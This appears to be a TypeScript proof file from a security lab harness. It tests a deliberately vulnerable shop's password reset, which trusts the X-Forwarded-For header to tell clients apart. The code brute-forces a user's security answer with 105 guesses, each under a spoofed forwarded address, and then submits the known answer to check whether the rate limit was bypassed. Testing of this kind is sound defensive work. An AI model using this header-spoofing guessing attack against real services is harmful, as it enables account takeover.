import type * as Client from '../../../../../lab/weaknesses/forwarded-client-address.js'
import type { ServedLab } from '../../../../support/serve-lab.js'
import type { Proof } from '../proof.js'
import { withSharedLab } from './with-lab.js'

const passwords = { new: 'a-new-one', repeat: 'a-new-one' }

const answer = async (shop: ServedLab, name: string, text: string, forwardedFor: string) => {
  const headers = { 'X-Forwarded-For': forwardedFor }
  const body = { email: `${name}@juice-sh.op`, answer: text, ...passwords }
  return (await shop.post('/rest/user/reset-password', body, { headers })).status
}

/** More guesses than one client has, each under another name; whether the last of them was let in. */
async function guessAnswerOfMorty(shop: ServedLab): Promise<boolean> {
  const wrong = Array.from({ length: 105 }, (_, attempt) =>
    answer(shop, 'morty', `snowball${attempt}`, `10.0.0.${attempt}`),
  )
  await Promise.all(wrong)
  return (await answer(shop, 'morty', '5N0wb41L', '10.0.0.250')) === 200
}

/** Somebody who tries all spellings of a pet's name and claims to be somebody else each time. */
export const guessUnderManyNames: Proof = {
  async try(version) {
    const { identifyByForwardedAddress } = await version.load<typeof Client>()
    const nameOf = (clientAddress: string) => identifyByForwardedAddress('', clientAddress)
    const tellsNeighboursApart = nameOf('198.51.100.7') !== nameOf('198.51.100.8')
    return withSharedLab({ identifyClient: identifyByForwardedAddress }, async (shop) => {
      const feature = (await answer(shop, 'jim', 'Samuel', '10.0.1.1')) === 200 && tellsNeighboursApart
      return { attack: await guessAnswerOfMorty(shop), feature }
    })
  },
}
